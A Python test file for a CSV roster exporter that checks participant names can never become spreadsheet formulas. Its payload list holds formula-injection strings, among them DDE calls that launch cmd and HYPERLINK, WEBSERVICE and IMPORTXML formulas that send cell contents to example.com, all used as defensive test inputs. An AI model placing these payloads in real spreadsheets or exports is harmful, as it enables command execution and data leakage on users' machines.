"""The table of participants: what a spreadsheet shows, and that nothing in it is a formula."""

from __future__ import annotations

import csv
import io
import unicodedata
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.domain.types import ParticipantStatus, UserId
from core.rosters.child import lines_of
from core.rosters.understanding import roster_of
from core.rosters.writing import HEADINGS, Entry, csv_of, inert

S = ParticipantStatus
JOINED_AT = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)
ENTRIES = [
    Entry("Jörg Müller", UserId("U0JOERG1"), S.JOINED, JOINED_AT),
    Entry('Ana "Banana" Smith; Lee', UserId("U0ANA1"), S.INVITED),
]

STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\xa0=1", "\u200b=1"]
FORMS = ["＝1", "＋1", "－1", "＠A", "﹦1", "﹢1", "﹣1", "﹫A", "⁼1", "⁺1", "⁻1", "−1", "\ufeff=1"]
PAYLOADS = [
    *STARTS,
    *FORMS,
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1,"Click")',
    '=WEBSERVICE(CONCATENATE("http://example.com/",A1))',
    '=IMPORTXML(CONCAT("http://example.com/?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\x00=1",
    "\x1b=1",
    "\u202e=1",
    "\u2028=1",
    "\ud800=1",
    "\ue000=1",
    "\t\t  ＝cmd",
    "'\n=1",
]


def rows(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_row_says_who_what_and_since_when_in_the_time_of_the_exchange() -> None:
    assert rows(csv_of(ENTRIES, "Europe/Berlin")) == [
        ["Name", "Slack ID", "Status", "Joined since"],
        ["Jörg Müller", "U0JOERG1", "joined", "2026-12-01 00:30"],
        ['Ana "Banana" Smith; Lee', "U0ANA1", "invited", ""],
    ]


def test_addresses_stand_in_a_column_of_their_own_where_there_are_any() -> None:
    known = replace(ENTRIES[0], email="joerg@example.com")

    heading, one, other = rows(csv_of([known, ENTRIES[1]], "UTC"))

    assert heading[-1] == "E-mail"
    assert (one[-1], other[-1]) == ("joerg@example.com", "")
    roster = roster_of(lines_of(csv_of([known, ENTRIES[1]], "UTC")))
    assert len(roster.rows) == 2
    assert not any(row.problems for row in roster.rows)


def test_excel_opens_it_as_it_is() -> None:
    data = csv_of(ENTRIES[:1], "UTC")

    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].decode() == (
        '"Name","Slack ID","Status","Joined since"\r\n'
        '"Jörg Müller","U0JOERG1","joined","2026-11-30 23:30"\r\n'
    )


def test_it_can_be_read_again() -> None:
    roster = roster_of(lines_of(csv_of(ENTRIES, "UTC")))

    assert [row.address for row in roster.rows] == ["U0JOERG1", "U0ANA1"]
    assert not any(row.problems for row in roster.rows)


def test_an_exchange_with_nobody_has_headings() -> None:
    assert rows(csv_of([], "UTC")) == [list(HEADINGS)]


def begins_a_formula(cell: str) -> bool:
    seen = "".join(one for one in cell if unicodedata.category(one) not in ("Cf", "Cn", "Co"))
    return unicodedata.normalize("NFKC", seen).strip()[:1] in tuple("=+-@\t\r−")


@pytest.mark.parametrize("name", PAYLOADS, ids=ascii)
def test_no_name_becomes_a_formula(name: str) -> None:
    cell = rows(csv_of([Entry(name, UserId("U0ANA1"), S.JOINED)], "UTC"))[1][0]

    assert cell.startswith("'")
    assert not begins_a_formula(cell)


@pytest.mark.parametrize("name", ["Ana", "Ana-Lena", "a=b", "7", "O'Neil", "李小龙", "", "#1"])
def test_an_ordinary_name_stays_as_it_is(name: str) -> None:
    assert inert(name) == name


@given(st.text(st.one_of(st.sampled_from("=+-@＝－−\t\r\n ;,\"'\u200b"), st.characters())))
def test_whatever_a_name_is_no_cell_begins_a_formula_and_each_row_stays_one(name: str) -> None:
    data = csv_of([Entry(name, UserId("U0ANA1"), S.JOINED), *ENTRIES], "UTC")

    read = rows(data)
    assert len(read) == 4
    assert data.count(b"\r\n") == 4
    assert [row[1] for row in read] == ["Slack ID", "U0ANA1", "U0JOERG1", "U0ANA1"]
    assert not any(begins_a_formula(cell) for row in read for cell in row)
    # Also where a spreadsheet separates columns by semicolons: a name does not fall apart.
    assert all(len(row) == 1 for row in rows(data, ";"))
